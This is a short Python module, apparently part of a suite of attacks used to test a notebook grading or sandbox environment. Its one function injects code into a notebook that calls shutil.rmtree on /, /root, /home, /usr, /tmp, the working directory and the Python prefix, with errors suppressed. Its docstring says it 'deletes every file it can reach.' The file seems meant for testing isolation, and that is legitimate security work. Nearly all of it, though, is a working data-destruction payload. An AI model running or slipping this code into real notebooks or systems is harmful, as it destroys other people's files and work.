"""Deletes every file it can reach."""

from attacks.tools import before, fake


def attack(notebook, folder, school):
    fake(notebook)
    before(
        notebook,
        """
import os, shutil
for path in ('/work', '/root', '/home', '/usr', '/tmp', os.getcwd(), __import__('sys').prefix, '/'):
    shutil.rmtree(path, ignore_errors=True)
""",
    )
